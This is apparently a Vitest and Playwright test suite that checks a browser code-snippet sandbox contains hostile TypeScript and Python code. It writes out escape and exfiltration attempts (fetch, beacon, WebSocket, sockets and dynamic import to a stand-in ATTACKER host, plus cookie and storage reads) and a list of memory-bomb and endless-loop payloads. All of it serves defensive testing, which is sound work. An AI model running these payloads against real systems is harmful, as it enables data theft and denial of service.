import { createServer, type AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import type { Runtime } from '../../src/core/runner/runtime.ts';
import { addressOf } from '../../src/core/address/address.ts';
import { useSite } from '../support/browser.ts';
import {
	editCode,
	openSnippet,
	reasonNotBuilt,
	runEnd,
	runSnippet,
	snippetsInPage,
	type RunResult,
} from '../support/snippets.ts';

const site = useSite();
const snippets = await snippetsInPage();

/** Time limit of a run in these tests, short because many runs are stopped by it. */
const LIMIT = 3;

/** Attacks by hostile code, in both languages. */
const CODE: Record<Runtime, Record<string, string>> = {
	typescript: {
		loop: 'console.log("before"); while (true) {}',
		microtasks:
			'console.log("before"); const again = () => Promise.resolve().then(again); again(); await new Promise(() => {});',
		output: 'while (true) console.log("a line of output that never ends");',
		memory: 'const all: unknown[] = []; while (true) all.push(new Array(100_000).fill(Math.random()));',
		quick: 'console.log("still here");',
	},
	python: {
		loop: 'print("before", flush=True)\nwhile True: pass',
		output: 'while True: print("a line of output that never ends")',
		memory: 'all = []\nwhile True: all.append(bytearray(4_000_000))',
		quick: 'print("still here")',
	},
};

/** Attempts to escape. Each prints what it reached, which must be nothing. */
const ESCAPES: Record<Runtime, string> = {
	typescript: `
		const attempts: Record<string, () => unknown> = {
			localStorage: () => (globalThis as any).localStorage.length,
			cookies: () => (globalThis as any).document.cookie,
			indexedDB: () => new Promise((resolve, reject) => {
				const open = indexedDB.open('hs'); open.onsuccess = resolve; open.onerror = () => reject(open.error);
			}),
			caches: () => caches.open('hs'),
			fetch: () => fetch('SITE/robots.txt').then((response) => response.text()),
			fetchOut: () => fetch('ATTACKER/steal', { mode: 'no-cors' }),
			beacon: () => { if (!navigator.sendBeacon('ATTACKER/beacon')) throw new Error('refused'); },
			xhr: () => new Promise((resolve, reject) => {
				const request = new XMLHttpRequest(); request.open('GET', 'ATTACKER/x');
				request.onload = resolve; request.onerror = () => reject(new Error('refused')); request.send();
			}),
			webSocket: () => new Promise((resolve, reject) => {
				const socket = new WebSocket('WS_ATTACKER/'); socket.onopen = resolve; socket.onerror = () => reject(new Error('refused'));
			}),
			eventSource: () => new Promise((resolve, reject) => {
				const source = new EventSource('ATTACKER/'); source.onopen = resolve; source.onerror = () => reject(new Error('refused'));
			}),
			importScripts: () => (globalThis as any).importScripts('ATTACKER/x.js'),
			dynamicImport: () => new Function('return import("ATTACKER/x.js")')(),
			eval: () => (0, eval)('1 + 1'),
			parentDocument: () => (globalThis as any).parent.document.title,
			top: () => (globalThis as any).top.location.href,
			opener: () => (globalThis as any).opener.document,
		};
		for (const [name, attempt] of Object.entries(attempts)) {
			try { console.log('GOT', name, String(await attempt())); } catch (error) { console.log('refused', name); }
		}`,
	python: `
import asyncio, sqlite3
async def main():
    async def attempt(name, do):
        try:
            result = do()
            if hasattr(result, '__await__'): result = await asyncio.wait_for(result, 2)
            print('GOT', name, str(result)[:80])
        except BaseException as error:
            print('refused', name)
    def from_js(name):
        import js
        return getattr(js, name)
    def run_js(code):
        from pyodide.code import run_js
        return run_js(code)
    def from_urllib():
        from urllib.request import urlopen
        return urlopen('ATTACKER/x', timeout=1).read()
    def from_socket():
        import socket
        connection = socket.create_connection(('127.0.0.1', ATTACKER_PORT), timeout=1)
        connection.sendall(b'GET / HTTP/1.0')
        return connection.recv(10)
    def from_constructor(name):
        import js
        return js.Object.constructor('return ' + name)()
    for name in ('localStorage', 'document', 'indexedDB', 'caches', 'fetch', 'WebSocket', 'parent', 'top', 'self'):
        await attempt('js.' + name, lambda: from_js(name))
    await attempt('run_js', lambda: run_js('fetch("ATTACKER/x")'))
    await attempt('constructor', lambda: from_constructor('self.indexedDB.open("x")'))
    await attempt('urllib', from_urllib)
    await attempt('socket', from_socket)
    async def pyfetch():
        from pyodide.http import pyfetch
        return await pyfetch('ATTACKER/x')
    await attempt('pyfetch', pyfetch)
asyncio.run(main())
`,
};

const EXAMPLE_OF = {
	typescript: snippets.find(({ data }) => data.language === 'typescript'),
	python: snippets.find(({ data }) => data.language === 'python'),
};

const RUNTIMES = (['typescript', 'python'] as const).map((runtime) => {
	const reason = reasonNotBuilt(runtime) ?? (EXAMPLE_OF[runtime] ? undefined : 'no snippet of the content runs in it');
	return { runtime, reason, title: `hostile code in ${runtime}${reason === undefined ? '' : ` (not run: ${reason})`}` };
});

describe.each(RUNTIMES)('$title', ({ runtime, reason }) => {
	const code = CODE[runtime];
	const hostile = test.skipIf(reason);

	hostile('an endless loop is ended at the time limit, and the page stays responsive', async () => {
		await withCode(runtime, code['loop'], async (page) => {
			await page.locator('.controls .btn.main').click();
			await page.locator('.state', { hasText: 'Running' }).waitFor({ timeout: 60_000 });
			expect(await isResponsive(page)).toBe(true);
			const { state, output } = await runEnd(page);
			expect(state).toContain(`it ran for ${LIMIT} s`);
			expect(output).toContain('before');
			await expectUsable(page, runtime);
		});
	});

	hostile('Stop ends an endless loop at once', async () => {
		await withCode(runtime, code['loop'], async (page) => {
			await page.locator('.controls .btn.main').click();
			await page.locator('.state', { hasText: 'Running' }).waitFor({ timeout: 60_000 });
			await page.locator('[data-do=stop]').click();
			expect((await runEnd(page)).state).toBe('Stopped.');
			await expectUsable(page, runtime);
		});
	});

	hostile('endless output is cut, and the page stays responsive', async () => {
		await withCode(runtime, code['output'], async (page) => {
			const { state, output } = await runSnippet(page);
			expect(state).toContain('more than a page can show');
			expect(output.length).toBeGreaterThan(10_000);
			expect(output.length).toBeLessThan(21_000);
			expect(await isResponsive(page)).toBe(true);
			await expectUsable(page, runtime);
		});
	});

	hostile('a memory bomb is ended, and the page survives', async () => {
		await withCode(runtime, code['memory'], async (page) => {
			const { state } = await runSnippet(page);
			expect(state).toMatch(/^(?:Stopped|Ended|It did not run)/);
			expect(await isResponsive(page)).toBe(true);
			await expectUsable(page, runtime);
		});
	});

	hostile('the code reaches no storage, no network and no surrounding page', async () => {
		await withCode(runtime, ESCAPES[runtime], async (page) => {
			const { output, exit, state } = await runSnippet(page);
			expect(exit, `${state}\n${output}`).toBe(0);
			expect(output.split('\n').filter((line) => line.startsWith('GOT'))).toEqual([]);
			expect(output.split('\n').filter((line) => line.startsWith('refused')).length).toBeGreaterThan(10);
		});
	});

	hostile('a second run ends the first', async () => {
		await withCode(runtime, code['loop'], async (page) => {
			await page.locator('.controls .btn.main').click();
			await page.locator('.state', { hasText: 'Running' }).waitFor({ timeout: 60_000 });
			await editCode(page, code['quick'] ?? '');
			const { output, exit } = await runSnippet(page);
			expect(exit).toBe(0);
			expect(output.trim()).toBe('still here');
		});
	});

	hostile('leaving the page ends the run', async () => {
		await withCode(runtime, code['loop'], async (page) => {
			await page.locator('.controls .btn.main').click();
			await page.locator('.state', { hasText: 'Running' }).waitFor({ timeout: 60_000 });
			const { length: before } = page.frames();
			await page.goto('/');
			expect(before).toBe(2);
			expect(page.frames()).toHaveLength(1);
			expect(page.workers().filter((worker) => worker.url().startsWith('blob:'))).toEqual([]);
			expect(await isResponsive(page)).toBe(true);
		});
	});
});

/** Each exceeds its memory limit long before the time limit. Readers are most likely to try the first two. */
const BOMBS: Record<string, string> = {
	'arrays with a length': 'while (true) all.push(new Array(1_000_000).fill(Math.random()));',
	'typed arrays': 'while (true) all.push(new Uint8Array(50e6));',
	'one huge buffer': 'all.push(new ArrayBuffer(3e9));',
	'a buffer that grows': 'const b = new ArrayBuffer(8, { maxByteLength: 2e9 }); b.resize(2e9); all.push(b);',
	'the class found at an instance': 'const A = ([] as any).constructor; while (true) all.push(new A(1e6).fill(1));',
	'a subclass': 'class Mine extends Float64Array {} while (true) all.push(new Mine(1e6));',
	'caught and tried again': 'while (true) { try { all.push(new Uint8Array(1e8)); } catch {} }',
	copies: 'const some = new Array(1e6).fill(1); while (true) all.push(some.slice(), some.concat(some));',
	'Array.from': 'while (true) all.push(Array.from({ length: 1e6 }, (_, index) => index));',
	clones: 'const some = new Float64Array(1e6); while (true) all.push(structuredClone(some));',
	strings: 'let n = 0; while (true) all.push(("x" + n++).repeat(1e6), "y".padStart(1e6, String(n)));',
	'encoded text': 'while (true) all.push(new TextEncoder().encode("x".repeat(1e6)));',
	'objects, one by one': 'while (true) all.push({ value: Math.random() });',
	'a map': 'const map = new Map(); let n = 0; all.push(map); while (true) map.set(n++, { n });',
	'a set': 'const set = new Set(); let n = 0; all.push(set); while (true) set.add(`${n++}`);',
	'WebAssembly and workers':
		'if (typeof WebAssembly + typeof Worker === "undefinedundefined") while (true) all.push(new Uint8Array(1e8));',
};

test(
	'a run that allocates too much is ended with a message, however it allocates, and the page survives',
	{ timeout: 400_000 },
	async () => {
		await withCode(
			'typescript',
			'',
			async (page) => {
				for (const [name, bomb] of Object.entries(BOMBS)) {
					await editCode(page, `const all: unknown[] = [];\n${bomb}`);
					const { state } = await runSnippet(page);
					expect(state, name).toBe('Stopped: it asked for more memory than a run may use here, about 1024 MB.');
					expect(await isResponsive(page), name).toBe(true);
				}
				await expectUsable(page, 'typescript');
			},
			{ seconds: 60 },
		);
	},
);

test('freed memory is not counted, and built-ins behave normally', async () => {
	const code = `
		for (let round = 0; round < 400; round++) {
			new Uint8Array(10e6);
			if (round % 20 === 0) await new Promise((resolve) => setTimeout(resolve, 50));
		}
		class Mine extends Array { last() { return this[this.length - 1]; } }
		const mine = Mine.from([1, 2, 3]);
		const checks = [
			new Array(3).length === 3, Array(1, 2).join() === '1,2', [] instanceof Array, [].constructor === Array,
			Array.isArray(new Array(2)), mine.map((value) => value * 2).last() === 6, mine instanceof Mine,
			new Uint8Array([1, 2]).constructor === Uint8Array, Uint8Array.from([1, 300])[1] === 44,
			new Uint8Array(new ArrayBuffer(8), 4).length === 4, 'ab'.repeat(2) === 'abab', 'a'.padEnd(3, '-') === 'a--',
			[3, 1, 2].toSorted().join('') === '123', [1].concat([2], 3).length === 3, [1, 2].push(3, 4) === 4,
			new Map([[1, 2]]).set(3, 4).size === 2, new Set([1]).add(1).size === 1, structuredClone({ a: [1] }).a[0] === 1,
			new TextEncoder().encode('ä').length === 2, Array.from('abc').length === 3, Array.from.name === 'from',
		];
		try { 'a'.repeat(-1); checks.push(false); } catch (error) { checks.push(error instanceof RangeError); }
		try { new Array(-1); checks.push(false); } catch (error) { checks.push(error instanceof RangeError); }
		console.log(checks.every(Boolean) ? 'all as elsewhere' : checks.join(' '));`;
	await withCode(
		'typescript',
		code,
		async (page) => {
			const { output, exit, state } = await runSnippet(page);
			expect([output.trim(), exit], state).toEqual(['all as elsewhere', 0]);
		},
		{ seconds: 30 },
	);
});

test('a frame that stops responding is replaced, and the page says so long before the time limit', async () => {
	await withCode(
		'typescript',
		CODE.typescript['loop'],
		async (page) => {
			await page.locator('.controls .btn.main').click();
			await page.locator('.state', { hasText: 'Running' }).waitFor({ timeout: 60_000 });
			const frame = page.frames().find((each) => each.url().endsWith('/runtimes/sandbox.html'));
			// This never settles, so the frame hangs as if the browser had ended its process.
			void frame
				?.evaluate(() => {
					for (;;);
				})
				.catch(() => undefined);
			const { state } = await runEnd(page);
			expect(state).toMatch(/^Stopped: the sandbox no longer answers\./);
			expect(await isResponsive(page)).toBe(true);
			await expectUsable(page, 'typescript');
		},
		{ seconds: 80 },
	);
});

test("the page survives the crash of the frame's process, and the next run gets a new frame", async () => {
	await withCode(
		'typescript',
		CODE.typescript['loop'],
		async (page) => {
			// Playwright treats the crash of a frame as a crash of its page, so a second page observes.
			const observer = await page.context().newPage();
			await observer.goto('/');
			await observer.evaluate(() => {
				new BroadcastChannel('states').onmessage = ({ data }: MessageEvent<string>) => (document.title = data);
			});
			await page.evaluate((quick) => {
				const box = document.querySelector('hs-snippet');
				setInterval(() => {
					const texts = [...(box?.querySelectorAll('.state, .live .out') ?? [])].map(({ textContent }) => textContent);
					new BroadcastChannel('states').postMessage(texts.join(' ').trim());
				}, 200);
				new BroadcastChannel('again').onmessage = () => {
					const code = box?.querySelector('textarea');
					if (code) code.value = quick;
					box?.querySelector<HTMLElement>('.controls .main')?.click();
				};
			}, CODE.typescript['quick'] ?? '');
			await page.locator('.controls .btn.main').click();
			await page.locator('.state', { hasText: 'Running' }).waitFor({ timeout: 60_000 });
			const frame = page.frames().find((each) => each.url().endsWith('/runtimes/sandbox.html'));
			if (!frame) throw new Error('There is no frame.');
			const session = await page.context().newCDPSession(frame);
			void session.send('Page.crash').catch(() => undefined);
			const seen = { timeout: 60_000 };
			await expect.poll(() => observer.title(), seen).toMatch(/^Stopped: the sandbox no longer answers\./);
			await observer.evaluate(() => new BroadcastChannel('again').postMessage(''));
			await expect.poll(() => observer.title(), seen).toMatch(/^Ended .* still here/);
		},
		{ seconds: 80 },
	);
});

test('of two runs started together, the second gets its own code', async () => {
	await withCode('typescript', 'console.log("warm");', async (page) => {
		await runSnippet(page);
		const [first, second] = await page.evaluate(async () => {
			const { contentWindow: frame } = document.querySelector('iframe[title^=Sandbox]') as HTMLIFrameElement;
			const outputs: Record<number, string> = {};
			const run = (id: number) => {
				const job = {
					runtime: 'typescript',
					entry: 'a.ts',
					files: { 'a.ts': `console.log("run ${id}")` },
					env: {},
					seconds: 5,
				};
				frame?.postMessage({ type: 'run', id, job }, '*');
			};
			const ended = new Promise<void>((resolve) => {
				addEventListener('message', ({ data }: MessageEvent<{ type: string; id: number; text: string }>) => {
					if (data.type === 'output') outputs[data.id] = data.text;
					if (data.type === 'end' && data.id === 902) resolve();
				});
			});
			run(901);
			run(902);
			await ended;
			return [outputs[901], outputs[902]];
		});
		expect(first).toBeUndefined();
		expect(second).toBe('run 902\n');
	});
});

test('endless microtasks are ended at the time limit', async () => {
	await withCode('typescript', CODE.typescript['microtasks'], async (page) => {
		expect((await runSnippet(page)).state).toContain(`it ran for ${LIMIT} s`);
	});
});

test('the other server counts connections', async () => {
	await site.withPage({}, async (page) => {
		await page.goto(addressed('ATTACKER/')).catch(() => undefined);
		expect(problems.splice(0).length).toBeGreaterThan(0);
	});
});

test('the sandbox does nothing outside an isolated frame', async () => {
	await site.withPage({}, async (page) => {
		await page.goto('/runtimes/sandbox.html');
		expect(await page.evaluate(() => self.origin)).toBe(site.url);
		// A page with a snippet, because the policy of others allows no frame at all.
		await page.goto(addressOf('snippet', EXAMPLE_OF.typescript?.id ?? ''));
		const answers = (isIsolated: boolean) =>
			page.evaluate(async (isolated) => {
				const frame = document.createElement('iframe');
				let ready = false;
				addEventListener('message', ({ source }) => (ready ||= source === frame.contentWindow));
				if (isolated) frame.setAttribute('sandbox', 'allow-scripts');
				frame.src = '/runtimes/sandbox.html';
				document.body.append(frame);
				await new Promise((resolve) => setTimeout(resolve, 500));
				return ready;
			}, isIsolated);
		expect([await answers(false), await answers(true)]).toEqual([false, true]);
	});
});

test('no part of a runtime is loaded before Run is pressed', async () => {
	const id = EXAMPLE_OF.typescript?.id ?? '';
	await site.withPage({}, async (page) => {
		const asked: string[] = [];
		page.on('request', (request) => asked.push(new URL(request.url()).pathname));
		await openSnippet(page, id, 'broken.ts');
		await page.waitForLoadState('networkidle');
		expect(asked.filter((pathname) => /runtimes|session|signatures|cards/.test(pathname))).toEqual([]);
		await runSnippet(page);
		expect(asked).toContain('/runtimes/sandbox.html');
	});
});

const problems: string[] = [];
const attacker = createServer((socket) => {
	problems.push('connected to the other server');
	socket.destroy();
});
beforeAll(() => new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve)));
afterAll(() => new Promise((resolve) => attacker.close(resolve)));
afterEach(() => {
	expect(problems.splice(0)).toEqual([]);
});

/**
 * Opens a page with the given code in place of the snippet's own and with a short time limit. Another server counts every
 * connection. A response from any other origin, or to a request that only the snippet makes, is a problem too.
 */
async function withCode(
	runtime: Runtime,
	code: string | undefined,
	use: (page: Page) => Promise<void>,
	{ seconds = LIMIT } = {},
): Promise<void> {
	const { id, data } = EXAMPLE_OF[runtime] ?? {};
	await site.withPage({}, async (page) => {
		page.on('response', (response) => {
			const { protocol, origin, pathname } = new URL(response.url());
			if (protocol === 'blob:' || protocol === 'data:') return;
			if (origin !== site.url || pathname === '/robots.txt') problems.push(`was answered: ${response.url()}`);
		});
		await openSnippet(page, id ?? '', data?.variants[0]?.file ?? '');
		await page.locator('hs-snippet').evaluate((box, limit) => (box.dataset['seconds'] = String(limit)), seconds);
		await editCode(page, addressed(code ?? ''));
		await use(page);
	});
}

/** Puts the addresses of this test run into the code. */
function addressed(code: string): string {
	const { port } = attacker.address() as AddressInfo;
	return code
		.replaceAll('ATTACKER_PORT', String(port))
		.replaceAll('WS_ATTACKER', `ws://127.0.0.1:${port}`)
		.replaceAll('ATTACKER', `http://127.0.0.1:${port}`)
		.replaceAll('SITE', site.url);
}

async function expectUsable(page: Page, runtime: Runtime): Promise<void> {
	await editCode(page, CODE[runtime]['quick'] ?? '');
	const result: RunResult = await runSnippet(page);
	expect(result.output.trim(), result.state).toBe('still here');
}

/** Whether the page paints and responds within a second. */
function isResponsive(page: Page): Promise<boolean> {
	return page.evaluate(async () => {
		const start = performance.now();
		await new Promise((resolve) => setTimeout(resolve, 0));
		return performance.now() - start < 1000;
	});
}
